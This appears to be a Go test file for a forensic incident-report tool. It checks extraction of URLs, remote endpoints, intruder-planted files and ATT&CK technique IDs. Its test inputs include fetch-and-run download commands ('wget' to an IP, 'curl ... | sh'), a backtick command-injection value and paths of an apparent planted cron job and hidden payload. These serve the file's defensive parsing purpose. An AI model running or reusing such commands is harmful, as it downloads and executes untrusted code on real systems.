package held

import (
	"slices"
	"strings"
	"testing"

	"telltale/report"
	"telltale/report/reporttest"
	"telltale/story"
)

func TestLinks(t *testing.T) {
	for in, want := range map[string]string{
		"":                                "",
		"wget -q http://203.0.113.66/upd": "http://203.0.113.66/upd",
		"curl 'https://a.example/x?y=1&z=2' | sh": "https://a.example/x?y=1&z=2",
		"see https://a.example/.":                 "https://a.example/",
		"ftp://x http://y":                        "ftp://x http://y",
		"http://":                                 "",
		"http://http://a":                         "http://http://a",
		"http://a\x00b":                           "http://a",
		"http://a`id`":                            "http://a",
		strings.Repeat("http://a ", 50):           strings.TrimSpace(strings.Repeat("http://a ", maxLinks)),
		"http://" + strings.Repeat("a", 5000):     "",
	} {
		if got := strings.Join(Links(in), " "); got != want {
			t.Errorf("%.60q: %.200q, want %.200q", in, got, want)
		}
	}
}

func TestRemote(t *testing.T) {
	for in, want := range map[string]string{
		"tcp to 203.0.113.6:443 established":     "203.0.113.6:443",
		"tcp 10.0.0.5:44010 to 203.0.113.66:443": "203.0.113.66:443",
		"tcp to [2001:db8::7]:80 x":              "[2001:db8::7]:80",
		"tcp at 0.0.0.0:22 listen":               "",
		"tcp to 127.0.0.1:80 established":        "",
		"tcp to 0.0.0.0:0":                       "",
		"all packets of eth0":                    "",
		"unix to /run/x":                         "",
		"":                                       "",
	} {
		got := ""
		if to := Remote(in); to.IsValid() {
			got = to.String()
		}
		if got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

// TestWhatIsRuledOutIsNotHeld takes the standing of a claim away.
func TestWhatIsRuledOutIsNotHeld(t *testing.T) {
	find := func(d *report.Document, value string) *Thing {
		things := Things(d)
		if i := slices.IndexFunc(things, func(t Thing) bool { return t.Value == value }); i >= 0 {
			return &things[i]
		}
		return nil
	}
	d := reporttest.Example(t)
	if x := find(d, "/etc/cron.d/man-db-update"); x == nil || x.Status != story.Confirmed || x.Own {
		t.Errorf("%+v", x)
	}
	if x := find(d, "/var/tmp/.font-unix/upd"); x == nil || !x.Own {
		t.Errorf("%+v", x)
	}
	for _, st := range []story.Status{story.RuledOut, story.CannotTell} {
		for i := range d.Claims {
			if d.Claims[i].ID == "c6" {
				d.Claims[i].Status = st
			}
		}
		if x := find(d, "/etc/cron.d/man-db-update"); x != nil {
			t.Errorf("%s: %+v", st, x)
		}
	}
	if x := find(d, "/home/alice/.bash_history"); x != nil {
		t.Errorf("where something was read is told as the intruder's: %+v", x)
	}
}

func TestBounds(t *testing.T) {
	d := reporttest.Example(t)
	d.Altered = nil
	for i := range 3 * Max {
		d.Altered = append(d.Altered, story.Altered{Path: strings.Repeat("x", i%97) + string(rune('0'+i%10)) + strings.Repeat("y", i/970), Claims: []string{"c8"}})
	}
	if n := len(Things(d)); n > Max {
		t.Errorf("%d things", n)
	}
}

func TestTechniques(t *testing.T) {
	var got []string
	for _, x := range Techniques(reporttest.Example(t)) {
		got = append(got, x.ID+" "+string(x.Status))
	}
	for _, want := range []string{"T1105 confirmed", "T1110.001 confirmed", "T1562.004 possible"} {
		if !slices.Contains(got, want) {
			t.Errorf("%s is not in %v", want, got)
		}
	}
	for in, want := range map[string]bool{"T1059": true, "T1059.004": true, "T1059.04": false, "T105": false, "1059": false, "": false, "T1059.": false, "TA0001": false, "T1059.004.1": false} {
		if IsTechnique(in) != want {
			t.Errorf("%q: %v", in, !want)
		}
	}
	for id, name := range attack {
		if !IsTechnique(id) || name == "" {
			t.Errorf("%q %q", id, name)
		}
	}
}
